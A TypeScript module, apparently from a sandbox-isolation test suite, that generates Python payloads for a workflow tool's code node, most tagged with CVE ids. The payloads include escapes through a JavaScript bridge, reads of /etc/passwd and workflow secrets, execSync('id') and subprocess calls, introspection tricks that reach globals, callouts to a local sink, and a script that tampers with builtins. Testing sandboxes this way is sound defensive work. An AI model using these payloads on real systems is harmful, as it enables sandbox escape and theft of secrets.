import type { Sink } from '../../sink.ts';
import type { Payload } from './payload.ts';

type Line = readonly [about: string, expression: string];

/** Python that answers with what an expression reached; an exception is nothing. */
const probe = (expression: string): string => `
def attempt():
    ${expression.includes('\n') ? expression.trim().replaceAll('\n', '\n    ') : `return ${expression}`}
try:
    r = attempt()
    r = None if r is None or r is False or r == '' else str(r)[:200]
except BaseException as error:
    r = None
return [{"json": {"r": r}}]
`;

const lines = (sink: Sink): readonly Line[] => [
  ['CVE-2025-68668: the bridge to JavaScript reaches process', 'import js\nreturn js.process.env.PATH'],
  ['CVE-2025-68668: the bridge to JavaScript reaches bindings', 'import js\nreturn js.env'],
  [
    'CVE-2025-68668: the bridge to JavaScript makes a function',
    `import js\nreturn js.Function.new("return 'ran-' + 1337 * 7331")()`,
  ],
  ['CVE-2025-68668: the bridge to JavaScript evaluates', `import js\nreturn js.eval("'ran-' + 1337 * 7331")`],
  [
    'CVE-2025-68668: the bridge to JavaScript requires a module',
    'import js\nreturn js.require("fs").readFileSync("/etc/passwd", "utf8")',
  ],
  [
    'CVE-2025-68668: the bridge to JavaScript gets a built-in module',
    'import js\nreturn js.process.getBuiltinModule("fs").readFileSync("/etc/passwd", "utf8")',
  ],
  [
    'CVE-2025-68668: the bridge to JavaScript starts a process',
    'import js\nreturn js.process.getBuiltinModule("child_process").execSync("id")',
  ],
  ['the bridge by its other name', 'import jsffi\nreturn jsffi.global_this.process.env.PATH'],
  ['the bridge fetches', `import js\nreturn js.fetch("${sink.url}").status`],
  [
    'the bridge opens a WebSocket',
    `import js\nreturn js.WebSocket.new("ws://127.0.0.1:${sink.port}/").readyState == 1`,
  ],
  ['CVE-2026-0863: attributes walked by str.format', `"{0.__class__.__init__.__globals__}".format(_input)`],
  [
    'CVE-2026-0863: attributes of an exception walked',
    'try:\n    1 / 0\nexcept Exception as e:\n    return e.__traceback__.tb_frame.f_globals',
  ],
  ['CVE-2026-0863: the frame of a generator', '(lambda g: g.gi_frame.f_back.f_globals)(i for i in [1])'],
  ['CVE-2026-25115: subclasses of object', '().__class__.__bases__[0].__subclasses__()'],
  ['CVE-2026-25115: globals of a function', '(lambda: 0).__globals__["os"].environ'],
  ['CVE-2026-27494: builtins reach open', 'open("/etc/passwd").read()'],
  ['CVE-2026-27494: builtins by dictionary', '__builtins__["open"]("/etc/passwd").read()'],
  ['CVE-2026-27494: io opens a file', 'import io\nreturn io.open("/etc/passwd").read()'],
  ['CVE-2026-42234: import by __import__', '__import__("os").environ'],
  ['CVE-2026-42234: import of subprocess', 'import subprocess\nreturn subprocess.check_output(["id"])'],
  [
    'CVE-2026-49444: import of sockets',
    `import socket\ns = socket.socket()\ns.connect(("127.0.0.1", ${sink.port}))\nreturn "open"`,
  ],
  ['CVE-2026-70470: import through a homoglyph', 'ｉmport os'],
  ['os lists the root', 'import os\nreturn os.listdir("/etc")'],
  ['os gives the environment', 'import os\nreturn os.getenv("PATH")'],
  ['os mounts', 'import vfs\nreturn vfs.mount("/", "/x")'],
  ['ctypes', 'import ctypes\nreturn ctypes.CDLL(None)'],
  ['uctypes reads beyond its own memory', 'import uctypes\nreturn uctypes.bytearray_at(2**31 - 64, 16)'],
  ['machine reads memory', 'import machine\nreturn machine.mem32[0]'],
  ['micropython memory', 'import micropython\nreturn micropython.mem_info().x'],
  ['urllib', `import urllib.request\nreturn urllib.request.urlopen("${sink.url}").read()`],
  ['environment of the workflow', '_env.PATH'],
  ['secrets of the workflow', '_secrets.x'],
  ['class attribute by getattr', 'getattr(_input, "__cl" + "ass__").__globals__'],
  ['state left by other code', '__import__("json").attack'],
  ['builtins changed by other code', 'None if len([1, 2]) == 2 else "changed"'],
  ['module state left by other code', '__import__("sys").modules.get("attack")'],
];

const LEAVE = `
import json, sys
try:
    json.attack = 'left'
except Exception:
    pass
try:
    sys.modules['attack'] = 'left'
    import builtins
    builtins.len = lambda x: 99
except Exception:
    pass
return [{"json": {"r": None}}]
`;

const slug = (text: string): string =>
  text
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '');

/** Bodies of Python Code nodes; the first breaks what it can for those after it. */
export function pythonPayloads(sink: Sink): Payload[] {
  return [
    { id: 'A1/python/sabotage', about: 'everything broken by one script', code: LEAVE },
    ...lines(sink).map(([about, expression]) => ({ id: `A1/python/${slug(about)}`, about, code: probe(expression) })),
  ];
}
